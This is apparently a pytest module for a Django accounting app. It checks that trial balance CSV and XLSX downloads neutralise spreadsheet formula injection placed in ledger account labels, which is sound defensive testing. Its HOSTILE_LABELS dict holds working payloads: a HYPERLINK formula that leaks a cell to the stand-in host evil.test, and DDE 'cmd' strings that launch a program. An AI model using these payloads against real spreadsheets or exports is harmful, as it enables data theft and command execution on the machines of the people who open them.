"""Formula injection through the trial balance downloads (issue #17, point 2).

Account labels come from the client's own WoW company: an attacker who can edit one writes a formula into
it, syncs, and waits for an accountant to open the export. Driven end to end: the labels are changed in the
sandbox over its control API, the file is synced over HTTP, and the downloads are fetched as the staff user.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from clients.models import Account, FiscalYear
from syncs.models import ClientLink, SyncRun
from tests.fixtures import FirmWorld

from .helpers import execute

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE_LABELS = {
    "700000": '=HYPERLINK("http://evil.test/leak?"&A3,"Omzet")',
    "604000": "+cmd|' /C calc'!A0",
    "610000": "-2+3+cmd|' /C calc'!A0",
    "550000": "@SUM(1+1)*cmd|' /C calc'!A0",
    "400000": "\t=1+1",
    "440000": "\r=1+1",
}


@pytest.fixture
def hostile_export(world: FirmWorld, wow_sandbox: Any, link: ClientLink) -> dict[str, bytes]:
    for number, label in HOSTILE_LABELS.items():
        answer = wow_sandbox.control(
            "PATCH", f"folders/{wow_sandbox.DEMO}/objects/GLAccount/{number}", {"Label": label}
        )
        assert answer.status_code == 200, answer.text
    assert execute(link).status in {SyncRun.Status.SUCCEEDED, SyncRun.Status.SUCCEEDED_WITH_ISSUES}
    stored = dict(Account.objects.filter(client_file=world.given_file).values_list("number", "name"))
    assert {number: stored[number] for number in HOSTILE_LABELS} == HOSTILE_LABELS  # the ledger keeps them
    fiscal_year = FiscalYear.objects.filter(client_file=world.given_file).order_by("start_date").first()
    assert fiscal_year is not None
    client = Client()
    client.force_login(world.staff)
    urls: dict[str, bytes] = {}
    for kind in ("trial_balance_csv", "trial_balance_xlsx"):
        url = reverse(kind, args=[world.firm.slug, world.given_file.pk]) + f"?period=fy-{fiscal_year.pk}"
        response = client.get(url)
        assert response.status_code == 200
        urls[kind] = response.content
    return urls


def test_the_csv_neutralises_every_formula_looking_label(hostile_export: dict[str, Any]) -> None:
    rows = list(csv.reader(io.StringIO(hostile_export["trial_balance_csv"].decode("utf-8-sig"), newline="")))
    names = {row[0]: row[1] for row in rows[1:]}
    for number, label in HOSTILE_LABELS.items():
        assert names[number] == "'" + label
    # Amounts are numbers, not text: a negative one keeps its minus sign and no apostrophe.
    assert any(cell.startswith("-") and cell[1:2].isdigit() for row in rows[1:] for cell in row[2:])
    assert names["100000"] == "Geplaatst kapitaal"  # an ordinary label is left as it is


def test_the_workbook_writes_every_label_as_text(hostile_export: dict[str, Any]) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(hostile_export["trial_balance_xlsx"])).active
    assert sheet is not None
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=3) if row[0].value}
    for number, label in HOSTILE_LABELS.items():
        assert cells[number].data_type == "s", number
        assert cells[number].value == label.replace("\r", "\n")  # XML reads a carriage return as a newline
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
